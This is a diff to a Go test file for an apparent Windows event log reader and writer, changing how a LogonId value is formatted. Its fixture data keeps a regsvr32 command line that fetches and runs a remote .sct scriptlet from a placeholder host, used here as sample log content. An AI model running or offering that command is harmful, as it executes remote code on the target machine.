@@ -62,7 +62,7 @@ func writerSample(t testing.TB, n int) []byte {
 				{"ProcessGuid", "{365ABB72-6759-5CD8-0000-0010E2D50F00}"}, {"ProcessId", "1420"},
 				{"Image", `C:\Windows\System32\regsvr32.exe`},
 				{"CommandLine", "regsvr32.exe /s /u /i:http://example.test/x.sct scrobj.dll"},
-				{"LogonId", "0x0000000000013eee"}, {"TerminalSessionId", "1"},
+				{"LogonId", "0x13eee"}, {"TerminalSessionId", "1"},
 				{"ParentImage", `C:\Windows\System32\cmd.exe`},
 			},
 		}
@@ -213,7 +213,7 @@ func TestReadWriterOutput(t *testing.T) {
 		if v, _ := e.Field("CommandLine"); v != "regsvr32.exe /s /u /i:http://example.test/x.sct scrobj.dll" {
 			t.Errorf("CommandLine %q", v)
 		}
-		if v, _ := e.Field("LogonId"); v != "0x0000000000013eee" {
+		if v, _ := e.Field("LogonId"); v != "0x13eee" {
 			t.Errorf("LogonId %q", v)
 		}
 		if e.Time != time.Date(2024, 3, 1, 10, 0, 1, 0, time.UTC) || e.UserID != "S-1-5-18" || e.ProcessID != 1880 || e.Keywords != 0x8000000000000000 {
